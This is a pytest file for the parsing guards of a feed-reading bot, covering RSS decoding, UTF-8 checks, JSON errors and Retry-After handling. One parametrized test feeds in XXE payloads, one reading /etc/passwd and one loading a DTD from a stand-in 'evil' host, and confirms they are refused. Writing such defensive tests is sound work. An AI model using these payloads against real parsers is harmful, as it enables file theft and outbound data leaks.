"""The guards in front of feedparser, on their own (pure functions)."""

from __future__ import annotations

import pytest

from bot.sources import ParseError
from bot.sources.parsing import check_xml, read_feed, read_json

RSS_091 = (
    b'<?xml version="1.0" encoding="ISO-8859-1"?>\n'
    b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
    b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
    b'<rss version="0.91"><channel><title>Caf\xe9 [notes]</title><link>https://x.example/</link>'
    b"<description>d</description><item><title>Caf\xe9</title>"
    b"<link>https://x.example/1</link></item></channel></rss>"
)


def test_a_doctype_without_entities_and_latin1_bytes_are_fine() -> None:
    parsed, warning = read_feed(RSS_091, {"content-type": "application/rss+xml"})
    assert warning is None
    assert parsed.entries[0].title == "Café"


@pytest.mark.parametrize(
    "document",
    [
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>',
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]><rss/>',
        b"<!doctype feed [ <!element feed ANY> ]><feed/>",
    ],
    ids=["external entity", "parameter entity", "internal subset"],
)
def test_documents_declaring_entities_are_refused(document: bytes) -> None:
    with pytest.raises(ParseError, match="declares entities"):
        check_xml(document, {})


def test_utf8_is_checked_only_when_claimed() -> None:
    bad = b'<?xml version="1.0" encoding="utf-8"?><feed>\xff</feed>'
    with pytest.raises(ParseError, match="invalid UTF-8 at byte 44"):
        check_xml(bad, {})
    with pytest.raises(ParseError, match="invalid UTF-8"):
        check_xml(b"<feed>\xff</feed>", {"Content-Type": "application/atom+xml; charset=UTF-8"})
    check_xml(b"<feed>\xff</feed>", {"Content-Type": "application/atom+xml; charset=iso-8859-1"})


def test_json_errors_name_what_arrived() -> None:
    with pytest.raises(ParseError, match="XML or HTML where JSON"):
        read_json(b"  <html>busy</html>")
    with pytest.raises(ParseError, match="malformed JSON"):
        read_json(b'{"a": ')
    assert read_json(b"[]") == []


def test_retry_after_as_seconds_or_as_a_date_against_the_server_clock() -> None:
    from bot.sources.fetch import _retry_after

    assert _retry_after("120") == 120
    assert _retry_after("Wed, 22 Oct 2025 12:02:00 GMT", "Wed, 22 Oct 2025 12:00:00 GMT") == 120
    assert _retry_after("Wed, 22 Oct 2025 12:02:00 GMT", None) == 60
    assert _retry_after("soon") is None
    assert _retry_after(None) is None
